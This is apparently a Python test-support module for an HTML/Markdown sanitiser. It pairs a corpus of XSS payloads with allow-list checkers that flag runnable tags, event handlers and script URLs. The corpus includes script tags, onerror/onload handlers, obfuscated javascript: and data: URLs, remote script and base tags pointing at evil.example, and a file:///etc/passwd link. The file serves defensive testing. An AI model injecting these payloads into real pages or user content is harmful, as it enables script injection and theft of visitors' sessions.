"""An XSS corpus and an HTML checker: does a fragment or page hold anything a browser would run?"""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser

CORPUS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: <javascript:alert(1)>",
    '[x][ref]\n\n[ref]: https://ok.example "a" onclick="alert(1)"',
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://tracker.example/pixel.gif)",
    "![x](//tracker.example/pixel.gif)",
    '![x" onerror="alert(1)](y.png)',
    "```\n<script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "> <script>alert(1)</script>\n>> [x](javascript:alert(1))",
    "> " * 300 + "<script>alert(1)</script>",
    "- " * 300 + "[x](javascript:alert(1))",
    "[" * 2000 + "x" + "](javascript:alert(1))" * 50,
    "*" * 3000 + "<img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "~~<img src=x onerror=alert(1)>~~",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %}",
    "\u202e<script>alert(1)</script>",
)
"""Hostile Markdown and HTML: each must come out inert."""

SAFE_TAGS = frozenset(
    {
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    }
)
SAFE_ATTRIBUTES: Mapping[str, frozenset[str]] = {
    "a": frozenset({"href", "title", "rel"}),
    "img": frozenset({"src", "alt", "title"}),
    "ol": frozenset({"start"}),
    "code": frozenset({"class"}),
    "th": frozenset({"class"}),
    "td": frozenset({"class"}),
    "pre": frozenset({"class"}),
}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
_RASTER = re.compile(r"^data:image/(png|jpeg|gif|webp)[;,]", re.IGNORECASE)
_URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href"})
RUNNABLE_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "form", "frame", "link"}
)


def url_problem(tag: str, attribute: str, value: str) -> str | None:
    """Return why a URL attribute could run code or leak the reader, or None when it is harmless."""
    compact = _INVISIBLE.sub("", value)
    found = _SCHEME.match(compact)
    scheme = found.group(1).lower() if found else None
    if tag == "img" and attribute == "src":
        if compact.startswith("//"):
            return f"remote image {value!r}"
        if scheme is None or _RASTER.match(compact):
            return None
        return f"image source {value!r}"
    if scheme in (None, "http", "https", "mailto"):
        return None
    return f"{attribute}={value!r} on <{tag}>"


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def parse_tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Return every start tag of an HTML text with its attributes (entities decoded)."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def fragment_problems(html: str) -> list[str]:
    """Check a sanitised fragment against the Markdown allow-list; return what breaks it."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    problems = [f"comment {c!r}" for c in collector.comments]
    for tag, attrs in collector.tags:
        if tag not in SAFE_TAGS:
            problems.append(f"tag <{tag}>")
            continue
        allowed = SAFE_ATTRIBUTES.get(tag, frozenset())
        for name, value in attrs:
            if name not in allowed:
                problems.append(f"attribute {name} on <{tag}>")
            elif name in _URL_ATTRIBUTES:
                problem = url_problem(tag, name, value or "")
                if problem:
                    problems.append(problem)
    return problems


def page_problems(html: str) -> list[str]:
    """Check a whole page: no inline script, no event handler, no script URL, no runnable element."""
    problems: list[str] = []
    for tag, attrs in parse_tags(html):
        named = dict(attrs)
        if tag == "script":
            src = named.get("src")
            if not src or _SCHEME.match(src) or src.startswith("//"):
                problems.append(f"<script> {named!r}")
            continue
        if tag in RUNNABLE_TAGS - {"form", "meta", "link", "svg"}:
            problems.append(f"tag <{tag}>")
        if tag == "meta" and (named.get("http-equiv") or "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name} on <{tag}>")
            if name == "style":
                problems.append(f"style attribute on <{tag}>")
            if name in _URL_ATTRIBUTES and value is not None:
                problem = url_problem(tag, name, value)
                if problem:
                    problems.append(problem)
    return problems


__all__ = ["CORPUS", "fragment_problems", "page_problems", "parse_tags", "url_problem"]
